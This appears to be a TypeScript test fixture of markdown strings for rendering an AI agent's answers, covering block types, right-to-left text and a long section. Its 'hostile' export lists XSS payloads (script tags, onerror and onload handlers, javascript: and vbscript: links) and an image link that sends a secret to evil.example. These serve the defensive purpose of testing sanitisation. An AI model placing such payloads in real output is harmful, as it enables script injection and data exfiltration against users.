/** Every block and every mark. */
export const everyBlock = `# Every block

Words can be **strong**, *stressed*, ~~struck~~ or \`code\`, and lead to [a page](https://fluo.example),
to [a reference][docs] or to https://fluo.example/plain as it is.

## Lists

- bullets
- that go on
  1. with numbers
  2. inside

1. loose items

2. stand apart

- [x] a task that is done
- [ ] one that is not

> A quote, which may hold
>
> - a list

### Code

\`\`\`ts
export function greet(name: string): string {
  return \`Hello, \${name}. This line is long enough to scroll inside of its block, and not to widen the page.\`
}
\`\`\`

| Plan | Seats | Price |
|:-----|:-----:|------:|
| Free | 1 | **0** |
| Team | 20 | 300 |

![A diagram of the parts](https://fluo.example/parts.png)

---

The end.

[docs]: https://fluo.example/docs
`

/** What an agent has read somewhere, and says again. */
export const hostile = `<script>alert(1)</script>

<img src="https://evil.example/x.png" onerror="alert(1)">

![a picture that is not fetched](https://evil.example/?q=secret) and [a script](javascript:alert(1)), [data](data:text/html,x) and [a password](https://bank.example@evil.example).

| <svg onload=alert(1)> | <iframe srcdoc="x"> |
|---|---|
| [y](vbscript:y) | <style>*{}</style> |
`

/** Two directions in one answer. */
export const rightToLeft = `# שלום עולם

- פריט ראשון
- פריט שני עם \`code\`

An English paragraph between them.

> ציטוט

\`\`\`
const greeting = 'שלום'
\`\`\`
`

/** Some 5,000 characters of an answer of many blocks. */
export const section: string = `## A heading

Some **words** in a paragraph that goes on for a line or so, with a [link](https://fluo.example) in it.

1. one item
2. another
   - nested

\`\`\`ts
const answer = 42
\`\`\`

| a | b |
|---|---|
| 1 | 2 |

${'A long paragraph says the same again and again. '.repeat(100)}

`
